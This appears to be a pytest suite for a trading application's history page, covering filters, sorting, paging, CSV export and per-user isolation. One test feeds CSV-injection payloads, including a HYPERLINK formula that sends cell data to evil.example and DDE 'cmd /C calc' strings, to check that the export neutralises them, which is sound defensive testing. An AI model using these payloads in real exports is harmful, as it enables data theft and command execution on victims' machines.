"""The history (/history/) in a real Chromium against a real server: it lists exactly the user's finished
sessions with the figures the REST API gives for them, filters, sorts server-side, pages 25 at a time,
exports the filtered set as CSV, refuses bad filters at their field, and shows another user (or staff)
only their own sessions."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import httpx
import pytest

from live_trading.marketdata.calendar import trading_days
from tests.pages.cards import inr, usd
from tests.pages.conftest import screenshots
from tests.pages.runs import ENDED, api_sessions, ended_row, rest, run_day, strategy_for
from tests.stream.conftest import bearer, stop_sessions

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.slow]


def rows(page) -> list[dict]:
    """The history table's rows as a trader reads them: id and each cell's text."""
    return page.evaluate("""[...document.querySelectorAll('#history-table tbody tr')].map((tr) => ({
        id: tr.dataset.sessionId,
        ...Object.fromEntries([...tr.querySelectorAll('td[data-cell]')].map((td) => [td.dataset.cell, td.textContent.trim()])),
    }))""")


def expected_row(s: dict, report: dict) -> dict:
    """What the row of the API's session ``s`` (as ``/api/sessions/`` lists it) must say, with its
    ``report`` (``/api/sessions/{id}/report``) for the max drawdown; formatted here (inr is the tests' own)."""
    day = date.fromisoformat(s["start_date"]).strftime("%d %b %Y")
    return {"id": s["session_id"], "date": day, "net": inr(s["realized_pnl"]), "charges": inr(s["charges"]),
            "trades": str(s["total_trades"]), "win_rate": f"{Decimal(s['win_rate']):.2f}%",
            "drawdown": inr(report["statistics"]["max_drawdown"])}


def without_text(row: dict) -> dict:
    return {k: v for k, v in row.items() if k not in ("strategy", "status")}


def test_the_history_lists_finished_sessions_with_the_apis_figures_and_filters_sorts_and_exports(
        open_page, pages_server, alice, bob, charlie):
    straddle, broker = strategy_for(alice)
    rsi, _ = strategy_for(alice, "nifty_rsi_reversal")
    ids = [run_day(pages_server, alice, straddle, broker, "2024-10-29"),
           run_day(pages_server, alice, straddle, broker, "2024-10-30"),
           run_day(pages_server, alice, rsi, broker, "2024-10-29"),
           run_day(pages_server, alice, straddle, broker, "2024-10-29", stop_early=True)]
    bobs = ended_row(bob, strategy_for(bob)[0], date(2024, 10, 29), net="-120.50", charges="40.10", trades=2)
    charlies = ended_row(charlie, strategy_for(charlie)[0], date(2024, 10, 29), net="300.00")
    running = httpx.post(  # a session still running is not history
        pages_server.url("/api/v2/live/start"), headers=bearer(alice), timeout=30,
        json={"strategy_id": str(straddle.id), "broker_connection_id": str(broker.id), "date": "2024-10-29",
              "speed_multiplier": 1}).json()["session_id"]
    try:
        api = api_sessions(pages_server, alice)
        finished = {i: s for i, s in api.items() if s["status"] in ENDED}
        assert set(finished) == set(ids) and running in api
        assert finished[ids[3]]["status"] == "stopped"
        assert any(s["total_trades"] for s in finished.values()), "the straddle trades on both days"

        reports = {i: rest(pages_server, alice, f"/api/sessions/{i}/report") for i in finished}
        for i, s in finished.items():  # the row's totals are the report's figures, by one definition
            stats = reports[i]["statistics"]
            assert (stats["net_pnl"], stats["charges"], stats["trades"], stats["win_rate"], stats["max_drawdown"]) == \
                (s["realized_pnl"], s["charges"], s["total_trades"], s["win_rate"], s["max_drawdown"])

        page = open_page(alice, "/history/")
        shown = rows(page)
        # Newest trading day first; the figures are the API's, formatted independently.
        assert shown[0]["id"] == ids[1]
        assert sorted((without_text(r) for r in shown), key=lambda r: r["id"]) == \
            sorted((expected_row(s, reports[i]) for i, s in finished.items()), key=lambda r: r["id"])
        for r in shown:
            s = finished[r["id"]]
            assert r["strategy"].startswith(f"{s['strategy_name']} v{s['strategy_version']}")
            assert r["status"] == s["status"].capitalize()
        totals = page.locator("#history-totals")
        net_total = sum(Decimal(s["realized_pnl"]) for s in finished.values())
        assert totals.locator('[data-cell="net"]').text_content() == inr(net_total)
        # Each row leads to its session's page.
        link = page.locator(f'#history-table tr[data-session-id="{ids[0]}"] td[data-cell="date"] a')
        assert link.get_attribute("href") == f"/sessions/{ids[0]}"
        screenshots(page, "history")

        # Filters, through the form.
        page.get_by_label("Status").select_option("stopped")
        page.get_by_role("button", name="Apply filters").click()
        page.wait_for_url("**status=stopped**")
        assert [r["id"] for r in rows(page)] == [ids[3]]
        page.goto(pages_server.url("/history/"))
        page.get_by_label("Strategy").select_option(label=rsi.name)
        page.get_by_role("button", name="Apply filters").click()
        page.wait_for_url("**strategy=**")
        assert [r["id"] for r in rows(page)] == [ids[2]]
        page.goto(pages_server.url("/history/"))
        page.get_by_label("Trading date from").fill("2024-10-30")
        page.get_by_label("Trading date to").fill("2024-10-30")
        page.get_by_role("button", name="Apply filters").click()
        page.wait_for_url("**date_to=2024-10-30**")
        assert [r["id"] for r in rows(page)] == [ids[1]]

        # Sort by net P&L from the column's header: highest first, then lowest first.
        page.goto(pages_server.url("/history/"))
        page.get_by_role("link", name="Net P&L").click()
        page.wait_for_url("**sort=-net**")
        nets = sorted((Decimal(s["realized_pnl"]) for s in finished.values()), reverse=True)
        assert [r["net"] for r in rows(page)] == [inr(n) for n in nets]
        assert page.locator('th[data-sort-key="net"]').get_attribute("aria-sort") == "descending"
        page.get_by_role("link", name="Net P&L").click()
        page.wait_for_url("**sort=net**")
        assert [r["net"] for r in rows(page)] == [inr(n) for n in reversed(nets)]

        # Sort by max drawdown, the report's figure: largest first.
        page.get_by_role("link", name="Max drawdown").click()
        page.wait_for_url("**sort=-drawdown**")
        falls = sorted((Decimal(r["statistics"]["max_drawdown"]) for r in reports.values()), reverse=True)
        assert [r["drawdown"] for r in rows(page)] == [inr(d) for d in falls]

        # The CSV is the filtered set, money as two-place strings as the API gives them.
        page.goto(pages_server.url("/history/?status=completed"))
        href = page.get_by_role("link", name="Export CSV").get_attribute("href")
        response = page.request.get(pages_server.url(href))
        assert response.status == 200
        assert 'filename="history-' in response.headers["content-disposition"]
        table = list(csv.DictReader(io.StringIO(response.text())))
        completed = {i: s for i, s in finished.items() if s["status"] == "completed"}
        assert {r["session_id"] for r in table} == set(completed)
        for r in table:
            s = completed[r["session_id"]]
            assert (r["net_pnl"], r["charges"], r["gross_pnl"], r["total_trades"], r["win_rate"]) == \
                (s["realized_pnl"], s["charges"], s["gross_pnl"], str(s["total_trades"]), s["win_rate"])
            assert r["max_drawdown"] == reports[r["session_id"]]["statistics"]["max_drawdown"]

        # Compare selected: exactly two ticked.
        page.goto(pages_server.url("/history/"))
        button = page.get_by_role("button", name="Compare selected")
        assert button.is_disabled()
        page.locator(f'#pick-{ids[0]}').check()
        page.locator(f'#pick-{ids[1]}').check()
        button.click()
        page.wait_for_url(f"**/sessions/compare?a={ids[1]}&b={ids[0]}")
        assert page.get_by_role("heading", name="Compare sessions").is_visible()

        # Another user sees only theirs; staff only their own too.
        other = open_page(bob, "/history/")
        assert [r["id"] for r in rows(other)] == [bobs.id]
        assert [r["net"] for r in rows(other)] == ["−₹120.50"]
        staff = open_page(charlie, "/history/")
        assert [r["id"] for r in rows(staff)] == [charlies.id]
    finally:
        stop_sessions(pages_server, alice)


def test_the_history_pages_25_at_a_time_sorted_across_pages_with_totals_of_the_whole_set(
        open_page, pages_server, alice):
    strategy, _ = strategy_for(alice)
    days = trading_days(date(2024, 9, 16), date(2024, 10, 31))[:30]
    nets = [Decimal(i * 37 - 500) + Decimal("0.25") for i in range(30)]  # all different, some losses
    for i, net in enumerate(nets):
        ended_row(alice, strategy, days[i], net=str(net), charges="10.05", trades=i % 4)

    page = open_page(alice, "/history/?sort=net")
    first = rows(page)
    assert len(first) == 25
    assert page.locator("#history-count").text_content().split() == ["1–25", "of", "30", "finished", "sessions"]
    page.get_by_role("link", name="Next").click()
    page.wait_for_url("**page=2**")
    second = rows(page)
    assert len(second) == 5
    assert [r["net"] for r in first + second] == [inr(n) for n in sorted(nets)]
    # The totals are of all 30, on either page.
    totals = page.locator("#history-totals")
    assert totals.locator('[data-cell="net"]').text_content() == inr(sum(nets))
    assert totals.locator('[data-cell="charges"]').text_content() == inr(Decimal("10.05") * 30)
    assert totals.locator('[data-cell="trades"]').text_content() == str(sum(i % 4 for i in range(30)))
    screenshots(page, "history-page-2")

    # The CSV has every row the filter selects, not a page of them, in the same order.
    response = page.request.get(pages_server.url("/history/export.csv?sort=-net&date_from=2024-10-05"))
    table = list(csv.DictReader(io.StringIO(response.text())))
    kept = [n for i, n in enumerate(nets) if days[i] >= date(2024, 10, 5)]
    assert [r["net_pnl"] for r in table] == [f"{n:.2f}" for n in sorted(kept, reverse=True)]


@pytest.mark.parametrize(("query", "field", "words"), [
    ("status=running", "status", "Status: running is not one of the choices"),
    ("status=bogus", "status", "Status: bogus is not one of the choices"),
    ("date_from=2024-02-30", "date_from", "Trading date from: enter a date as YYYY-MM-DD"),
    ("date_to=yesterday", "date_to", "Trading date to: enter a date as YYYY-MM-DD"),
    ("date_from=2024-10-30&date_to=2024-10-29", "date_to", "Trading date to: before the from date"),
    ("sort=-password", "sort", "Sort by: -password is not one of the choices"),
    ("strategy=not-a-strategy", "strategy", "Strategy: not-a-strategy is not one of the choices"),
    ("underlying=" + "N" * 10_000, "underlying", f"Underlying: {'N' * 64} is not one of the choices"),
    ("underlying=NIFTY%00", "underlying", "is not one of the choices"),
    ("status=completed&status=stopped", "status", "Status: give one value, not 2."),
    ("sort=net&sort=-net&sort=date", "sort", "Sort by: give one value, not 3."),
])
def test_a_bad_filter_is_a_400_with_the_message_at_its_field(client, alice, query, field, words):
    client.force_login(alice)
    page = client.get(f"/history/?{query}")
    assert page.status_code == 400
    html = page.content.decode()
    assert f'id="id_{field}_error"' in html and words in html
    assert f'aria-describedby="id_{field}_error"' in html
    assert "N" * 65 not in html  # a refusal quotes at most 64 characters of what was sent
    export = client.get(f"/history/export.csv?{query}")
    assert export.status_code == 400
    assert export.content.decode().startswith(f"{field}: ") and words in export.content.decode()


def test_the_history_needs_a_login(client):
    assert client.get("/history/").status_code == 302
    assert client.get("/history/export.csv").status_code == 302


def test_format_csv_is_the_export_and_another_users_strategy_is_no_filter(client, alice, bob):
    mine, _ = strategy_for(alice)
    unused, _ = strategy_for(alice, label="Never run")
    theirs, _ = strategy_for(bob)
    row = ended_row(alice, mine, date(2024, 10, 29), net="-12.30", charges="4.56", trades=1)
    client.force_login(alice)
    export = client.get("/history/?format=csv&status=completed")
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    assert export.content == client.get("/history/export.csv?status=completed").content
    table = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert [(r["session_id"], r["net_pnl"], r["charges"]) for r in table] == [(row.id, "-12.30", "4.56")]
    # A strategy of hers that never ran is a filter with no rows; bob's is refused at the field.
    assert client.get(f"/history/?strategy={unused.id}").status_code == 200
    refused = client.get(f"/history/?strategy={theirs.id}")
    assert refused.status_code == 400 and 'id="id_strategy_error"' in refused.content.decode()


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"])
def test_the_csv_export_makes_a_strategy_name_a_spreadsheet_would_run_text(client, alice, name):
    """OWASP's CSV injection rule: a cell that starts with = + - or @ is prefixed with ' so a spreadsheet
    shows it instead of running it; the figures (a negative net P&L starts with -) stay numbers."""
    strategy, _ = strategy_for(alice, label=name)
    ended_row(alice, strategy, date(2024, 10, 29), net="-12.30", charges="4.56", trades=1)
    client.force_login(alice)
    table = list(csv.DictReader(io.StringIO(client.get("/history/export.csv").content.decode())))
    assert [(r["strategy"], r["net_pnl"], r["gross_pnl"]) for r in table] == [("'" + name, "-12.30", "-7.74")]


def test_a_long_strategy_name_wraps_so_every_figure_shows_at_1280_and_on_a_phone(open_page, alice):
    """A strategy name may be 120 characters, with spaces or none: its cell wraps, so at 1280 px the table
    keeps the max drawdown (its last column) inside the page instead of behind the table's sideways
    scroll, and on a phone the card breaks the name, not its "Strategy" label, nor the page's width."""
    spaced = "NIFTY short straddle with stop losses, re-entries, trailing stops and a lock-in of profits after 11:00"
    for name in (spaced + " x" * ((120 - len(spaced)) // 2), "NIFTY_short_straddle_weekly_expiry_" * 3):
        strategy, _ = strategy_for(alice, label=name)
        ended_row(alice, strategy, date(2024, 10, 29), net="-1234567.89", charges="12345.67", trades=1234)
    page = open_page(alice, "/history/", 1280)
    wrap = page.locator(".history-wrap")
    assert wrap.evaluate("(el) => el.scrollWidth - el.clientWidth") <= 0, "the history table scrolls sideways"
    box = wrap.bounding_box()
    for last in page.locator('#history-table tbody td[data-cell="drawdown"]').all():
        cell = last.bounding_box()
        assert cell["x"] + cell["width"] <= box["x"] + box["width"]
    page.set_viewport_size({"width": 390, "height": 900})
    assert page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0
    # The label stays one line: as wide as the word "Strategy" set in its font, not broken to 22 px.
    widths = page.evaluate("""(() => {
        const cells = [...document.querySelectorAll('#history-table tbody td[data-cell="strategy"]')];
        const style = getComputedStyle(cells[0], '::before');
        const word = Object.assign(document.createElement('span'), {textContent: 'Strategy'});
        Object.assign(word.style, {font: style.font, position: 'absolute', whiteSpace: 'nowrap'});
        document.body.append(word);
        const one_line = word.getBoundingClientRect().width;
        word.remove();
        return [one_line, cells.map((td) => parseFloat(getComputedStyle(td, '::before').width))]; })()""")
    assert all(w >= widths[0] - 1 for w in widths[1]), widths


def test_sessions_in_two_currencies_are_totalled_per_currency_and_never_added(open_page, pages_server, alice, bob,
                                                                              charlie):
    """Two NSE sessions (INR, two places) and an EURUSD one (USD, five places) of alice's: the API lists each
    in its own currency, the history totals each currency apart (80.25 INR and 12.34567 USD, never a sum of
    the two), the CSV gives each row its places and currency, and the strategy's report reports one currency
    at a time."""
    strategy, _ = strategy_for(alice)
    nse = [ended_row(alice, strategy, date(2024, 10, 29), net="100.25", charges="40.10", trades=2),
           ended_row(alice, strategy, date(2024, 10, 30), net="-20.00", charges="10.00", trades=1)]
    fx = ended_row(alice, strategy, date(2024, 10, 31), net="12.34567", charges="0.00001", trades=3,
                   underlying="EURUSD", price_decimals=5, currency="USD")
    ended_row(bob, strategy_for(bob)[0], date(2024, 10, 29), net="-1.00")

    api = api_sessions(pages_server, alice)
    assert {i: (s["currency"], s["price_decimals"], s["realized_pnl"], s["charges"]) for i, s in api.items()} == {
        nse[0].id: ("INR", 2, "100.25", "40.10"), nse[1].id: ("INR", 2, "-20.00", "10.00"),
        fx.id: ("USD", 5, "12.34567", "0.00001")}

    page = open_page(alice, "/history/")
    totals = page.evaluate("""[...document.querySelectorAll('#history-totals tr')].map((tr) => ({
        currency: tr.dataset.currency, net: tr.dataset.netPnl, charges: tr.dataset.charges,
        label: tr.querySelector('th').textContent.trim(),
        shown: tr.querySelector('[data-cell="net"]').textContent.trim(),
        trades: tr.querySelector('[data-cell="trades"]').textContent.trim()}))""")
    assert totals == [
        {"currency": "INR", "net": "80.25", "charges": "50.10", "label": "Total of 2 sessions in INR",
         "shown": inr("80.25"), "trades": "3"},
        {"currency": "USD", "net": "12.34567", "charges": "0.00001", "label": "Total of 1 session in USD",
         "shown": usd("12.34567"), "trades": "3"},
    ]
    footer = page.locator("#history-totals").text_content()
    assert "92.59" not in footer and inr("92.59567") not in footer  # nothing adds rupees to dollars
    assert "amounts in different currencies are not added" in page.locator("#history-currencies").text_content()
    screenshots(page, "history-two-currencies")

    table = list(csv.DictReader(io.StringIO(page.request.get(pages_server.url("/history/export.csv")).text())))
    assert {r["session_id"]: (r["currency"], r["net_pnl"], r["charges"], r["gross_pnl"]) for r in table} == {
        nse[0].id: ("INR", "100.25", "40.10", "140.35"), nse[1].id: ("INR", "-20.00", "10.00", "-10.00"),
        fx.id: ("USD", "12.34567", "0.00001", "12.34568")}

    # The strategy's report: its latest session trades in USD, so USD first; INR a link away; no mixed total.
    report = open_page(alice, f"/strategies/{strategy.id}/report")
    note = report.locator("#report-currencies")
    assert note.get_attribute("data-currency") == "USD"
    assert "trade in USD and INR" in note.text_content()
    assert report.locator("#stats-title").text_content() == "Statistics over 1 session in USD"
    screenshots(report, "strategy-report-two-currencies")
    report.locator("#report-currencies").get_by_role("link", name="INR").click()
    report.wait_for_url("**currency=INR**")
    assert report.locator("#stats-title").text_content() == "Statistics over 2 sessions in INR"
    report._expect_4xx = True  # the refusal below is this tab's answer, not a broken request
    refused = report.goto(pages_server.url(f"/strategies/{strategy.id}/report?currency=EUR"))
    assert refused.status == 400
    assert report.locator("#currency-error").text_content().strip() == (
        "currency: 'EUR' is not a currency of this strategy's sessions (USD, INR)")
    refused = report.goto(pages_server.url(f"/strategies/{strategy.id}/report?currency="))  # empty: as unknown
    assert refused.status == 400
    assert report.locator("#currency-error").text_content().strip() == (
        "currency: '' is not a currency of this strategy's sessions (USD, INR)")

    # Bob sees none of them (his own only), staff only their own too.
    assert fx.id not in [r["id"] for r in rows(open_page(bob, "/history/"))]
    assert fx.id not in api_sessions(pages_server, bob)
    assert rows(open_page(charlie, "/history/")) == []
